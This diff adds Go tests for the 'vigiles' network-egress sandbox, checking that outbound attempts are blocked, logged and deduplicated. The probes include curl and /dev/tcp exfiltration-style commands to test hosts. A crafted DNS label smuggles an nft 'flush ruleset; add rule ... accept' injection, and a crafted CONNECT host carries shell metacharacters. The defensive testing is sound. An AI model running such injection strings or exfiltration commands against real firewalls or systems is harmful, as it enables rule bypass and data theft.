@@ -1,0 +1,221 @@
+package egress
+
+import (
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"os/exec"
+	"strings"
+	"testing"
+
+	"github.com/vigiles/action/pkg/evidence"
+)
+
+// buildQuery makes a DNS query for the given raw labels.
+func buildQuery(id uint16, qtype uint16, labels ...[]byte) []byte {
+	b := make([]byte, 12)
+	binary.BigEndian.PutUint16(b[0:], id)
+	binary.BigEndian.PutUint16(b[2:], 0x0100)
+	binary.BigEndian.PutUint16(b[4:], 1)
+	for _, l := range labels {
+		b = append(b, byte(len(l)))
+		b = append(b, l...)
+	}
+	b = append(b, 0)
+	b = binary.BigEndian.AppendUint16(b, qtype)
+	return binary.BigEndian.AppendUint16(b, 1)
+}
+
+// hostileLabels is a name with quotes, a newline, a backslash, a dot
+// inside a label, nft and shell syntax, whose presentation form is over
+// 300 characters.
+func hostileLabels() [][]byte {
+	return [][]byte{
+		[]byte("a\"b'c\nd\\e.f;g{h}i$j`k"),
+		[]byte(strings.Repeat("\"", 60)),
+		[]byte(strings.Repeat("\n", 60)),
+		[]byte("\" } ; flush ruleset ; add rule inet vigiles output accept #"),
+		[]byte("example"), []byte("test"),
+	}
+}
+
+func find(es []evidence.Egress, pred func(evidence.Egress) bool) (evidence.Egress, int, bool) {
+	for i, e := range es {
+		if pred(e) {
+			return e, i, true
+		}
+	}
+	return evidence.Egress{}, -1, false
+}
+
+func mustFind(t *testing.T, es []evidence.Egress, what string, pred func(evidence.Egress) bool) (evidence.Egress, int) {
+	t.Helper()
+	e, i, ok := find(es, pred)
+	if !ok {
+		js, _ := json.MarshalIndent(es, "", "  ")
+		t.Fatalf("no egress entry for %s in:\n%s", what, js)
+	}
+	return e, i
+}
+
+func TestDenyRecordsEveryAttempt(t *testing.T) {
+	needNamespaces(t)
+	hostile := hex.EncodeToString(buildQuery(0x4242, 1, hostileLabels()...))
+	probes := []string{
+		"sh:curl -sS -m 5 'http://api.example.test/x?secret=1'",
+		"sh:echo > /dev/tcp/203.0.113.7/443; echo > /dev/tcp/203.0.113.7/443",
+		"sh:echo hello > /dev/udp/203.0.113.8/5353",
+		"sh:curl -sS -g -m 5 'http://[2001:db8::7]:8080/'",
+		"dns:" + hostile,
+	}
+	_, nodeErr := exec.LookPath("node")
+	if nodeErr == nil {
+		probes = append(probes, `sh:node -e 'fetch("http://node.example.test/").then(()=>process.exit(0),()=>process.exit(3))'`)
+	}
+	res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressDeny}, Probes: probes}, nil)
+	if res.SetupErr != "" {
+		t.Fatalf("setup: %s", res.SetupErr)
+	}
+	if res.FinishErr != "" {
+		t.Fatalf("finish: %s", res.FinishErr)
+	}
+	if res.Egress == nil {
+		t.Fatal("egress is null on a confined run")
+	}
+	if res.Dropped != nil {
+		t.Errorf("dropped = %+v in deny mode, want null", res.Dropped)
+	}
+	if len(res.Env) != 0 {
+		t.Errorf("deny mode env = %q, want none", res.Env)
+	}
+	for i, p := range res.Probes[:4] {
+		if p.Code == 0 {
+			t.Errorf("probe %d succeeded in deny mode: %s", i, p.Output)
+		}
+	}
+	for _, e := range res.Egress {
+		if e.Allowed || e.Packets != 0 || e.Bytes != 0 {
+			t.Errorf("deny mode entry %+v allowed or counted", e)
+		}
+	}
+	dns, iDNS := mustFind(t, res.Egress, "the name curl asked", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaDNS && e.Host == "api.example.test"
+	})
+	if dns.Attempts < 1 {
+		t.Errorf("dns attempts = %d", dns.Attempts)
+	}
+	tcp, iTCP := mustFind(t, res.Egress, "raw tcp 203.0.113.7:443", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.7" && e.Port == 443 && e.Proto == "tcp"
+	})
+	if tcp.Attempts != 2 {
+		t.Errorf("tcp attempts = %d, want 2 (deduplicated)", tcp.Attempts)
+	}
+	_, iUDP := mustFind(t, res.Egress, "raw udp 203.0.113.8:5353", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.8" && e.Port == 5353 && e.Proto == "udp"
+	})
+	_, iV6 := mustFind(t, res.Egress, "ipv6 tcp [2001:db8::7]:8080", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaConnect && e.IP == "2001:db8::7" && e.Port == 8080 && e.Proto == "tcp"
+	})
+	if !(iDNS < iTCP && iTCP < iUDP && iUDP < iV6) {
+		t.Errorf("entries not ordered by first attempt: dns %d, tcp %d, udp %d, v6 %d", iDNS, iTCP, iUDP, iV6)
+	}
+	h, _ := mustFind(t, res.Egress, "the hostile name", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaDNS && strings.HasSuffix(e.Host, ".example.test") && strings.Contains(e.Host, "flush")
+	})
+	if len(h.Host) < 300 {
+		t.Errorf("hostile name recorded as %d characters, want the whole name (> 300)", len(h.Host))
+	}
+	for _, c := range h.Host {
+		if c < 0x21 || c > 0x7e {
+			t.Errorf("hostile name recorded with raw character %q: %q", c, h.Host)
+			break
+		}
+	}
+	checkJSONRoundTrip(t, res.Egress)
+	if ans := res.Probes[4].Output; len(ans) < 8 || ans[:4] != "4242" || ans[7] != '3' {
+		t.Errorf("hostile query answer %s, want id 4242 and NXDOMAIN", ans)
+	}
+	if strings.Contains(res.Ruleset, "flush") || strings.Contains(res.Ruleset, "example") {
+		t.Errorf("a name reached the rule set:\n%s", res.Ruleset)
+	}
+	if nodeErr == nil {
+		mustFind(t, res.Egress, "node fetch's name", func(e evidence.Egress) bool {
+			return e.Via == evidence.ViaDNS && e.Host == "node.example.test"
+		})
+	}
+}
+
+func checkJSONRoundTrip(t *testing.T, es []evidence.Egress) {
+	t.Helper()
+	b, err := json.Marshal(es)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var back []evidence.Egress
+	if err := json.Unmarshal(b, &back); err != nil {
+		t.Fatal(err)
+	}
+	if len(back) != len(es) {
+		t.Fatalf("json round trip lost entries")
+	}
+	for i := range es {
+		if back[i] != es[i] {
+			t.Errorf("json round trip changed %+v into %+v", es[i], back[i])
+		}
+	}
+}
+
+func TestRecordProxy(t *testing.T) {
+	needNamespaces(t)
+	longHost := strings.Repeat(`q"{;}`, 60) + ".example.test" // no single quote: it goes through bash
+	probes := []string{
+		"sh:curl -sS 'http://api.example.test/path/to?q=secret#frag'",
+		"sh:curl -sS https://secure.example.test/",
+		"sh:curl -sS -g 'https://[2001:db8::5]:8443/'",
+		"sh:echo > /dev/tcp/203.0.113.9/80",
+		`sh:exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}; printf 'CONNECT ` + longHost + `:443 HTTP/1.1\r\n\r\n' >&3; cat <&3`,
+	}
+	res := runChild(t, "sandbox", childSpec{Policy: evidence.EgressPolicy{Mode: evidence.EgressRecord}, Probes: probes}, nil)
+	if res.SetupErr != "" {
+		t.Fatalf("setup: %s", res.SetupErr)
+	}
+	if res.FinishErr != "" {
+		t.Fatalf("finish: %s", res.FinishErr)
+	}
+	env := strings.Join(res.Env, "\n")
+	for _, v := range []string{"HTTP_PROXY=http://127.0.0.1:", "HTTPS_PROXY=", "http_proxy=", "https_proxy=", "ALL_PROXY=", "NODE_USE_ENV_PROXY=1"} {
+		if !strings.Contains(env, v) {
+			t.Errorf("record env lacks %s: %q", v, res.Env)
+		}
+	}
+	for i, p := range res.Probes[:3] {
+		if p.Code == 0 && i == 0 {
+			// curl exits 0 on a 403 without --fail; the body tells.
+		}
+		if !strings.Contains(p.Output, "blocked by vigiles") && i == 0 {
+			t.Errorf("probe %d output lacks the block message: %s", i, p.Output)
+		}
+	}
+	mustFind(t, res.Egress, "GET via proxy", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaProxy && e.Host == "api.example.test" && e.Port == 80 && e.Detail == "GET /path/to" && !e.Allowed
+	})
+	mustFind(t, res.Egress, "CONNECT via proxy", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaProxy && e.Host == "secure.example.test" && e.Port == 443 && e.Detail == "CONNECT"
+	})
+	mustFind(t, res.Egress, "CONNECT to an IPv6 literal", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaProxy && e.IP == "2001:db8::5" && e.Port == 8443
+	})
+	mustFind(t, res.Egress, "a client ignoring the proxy", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaConnect && e.IP == "203.0.113.9" && e.Port == 80 && e.Proto == "tcp"
+	})
+	h, _ := mustFind(t, res.Egress, "the hostile CONNECT", func(e evidence.Egress) bool {
+		return e.Via == evidence.ViaProxy && strings.HasSuffix(e.Host, ".example.test") && strings.HasPrefix(e.Host, `q"{;}`)
+	})
+	if len(h.Host) < 300 {
+		t.Errorf("hostile host cut to %d characters", len(h.Host))
+	}
+	if !strings.Contains(res.Probes[4].Output, "403") {
+		t.Errorf("hostile CONNECT answer: %q", res.Probes[4].Output)
+	}
+	checkJSONRoundTrip(t, res.Egress)
+}
